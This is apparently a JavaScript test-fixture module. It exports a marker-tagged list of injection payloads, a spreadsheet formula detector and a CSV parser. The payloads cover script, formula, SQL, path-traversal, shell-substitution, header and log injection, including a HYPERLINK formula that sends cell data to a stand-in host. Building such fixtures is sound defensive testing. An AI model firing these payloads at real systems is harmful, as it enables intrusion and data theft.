// One list of texts that do harm where they are not taken as text: in pages, in spreadsheets, in logs, in SQL, in paths, in
// terminals. Every one holds MARK, so that it can be found again wherever it comes out. `hit` is what a script would call.
export const MARK = 'Nq7';
export const nasty = [
    `${MARK}<script>hit()</script>`, `"><img src=x onerror=hit() alt=${MARK}>`, `'><svg/onload=hit()>${MARK}`, `javascript:hit()//${MARK}`, `</textarea><script>hit()</script>${MARK}`,
    `</title><iframe srcdoc="<script>parent.hit()</script>">${MARK}`, `{{constructor.constructor("hit()")()}}${MARK}`, `\${hit()}${MARK}`, `<a href="data:text/html,<script>hit()</script>">${MARK}</a>`,
    `<!--${MARK}`, `]]>${MARK}`, `&lt;b&gt;${MARK}&amp;`, `<b>${MARK}`, `${MARK}"},{"x":"`,
    `=1+1+"${MARK}"`, `+cmd|' /C calc'!${MARK}`, `-2+3+${MARK}`, `@SUM(1,${MARK})`, `=HYPERLINK("http://x.example/?"&A1,"${MARK}")`, `＝1+${MARK}`, `\t=1+${MARK}`, ` =1+${MARK}`, `"=1+${MARK}`, `${MARK},"a""b`,
    `${MARK}'; DROP TABLE student;--`, `${MARK}' OR '1'='1`, `%s%s%n%x${MARK}`, `../../../etc/passwd${MARK}`, `${MARK}\\..\\x`, `\`id\`$(id)${MARK}`, `${MARK}%0d%0aSet-Cookie:x=1`,
    `${MARK}\r\nSet-Cookie: hit=1`, `${MARK}\n2026-06-01T00:00:00Z ERROR forged req=1`, `\u001b[31m${MARK}\u001b[0m`, `\u001b]0;${MARK}\u0007`, `${MARK}\u0000tail`, `${MARK}\u007f\u0085`, `${MARK}\u2028\u2029`,
    `\u202egpj.${MARK}\u202c`, `\ufeff${MARK}\u200b`, `👩🏽‍🎓${MARK}𠮷`, `Z\u0337\u0321\u0334${MARK}`, `${MARK}${'ﷺ'.repeat(20)}`, `${MARK}\ud83d`,
];

/** What a spreadsheet would take for a formula at the beginning of a cell. */
export const isFormula = (cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+([.]\d+)?$/.test(cell);

/** RFC 4180. */
export function cellsOf(csv) {
    const rows = [[]];
    let at = 0;
    while (at < csv.length) {
        let cell = '';
        if (csv[at] === '"') {
            for (at++; at < csv.length; at++) {
                if (csv[at] !== '"') cell += csv[at];
                else if (csv[at + 1] === '"') cell += csv[at++];
                else break;
            }
            at++;
        } else {
            while (at < csv.length && !',\r\n'.includes(csv[at])) cell += csv[at++];
        }
        rows.at(-1).push(cell);
        if (csv[at] === '\r') at++;
        if (csv[at] === '\n') rows.push([]);
        at++;
    }
    return rows.filter((row) => row.length > 0);
}
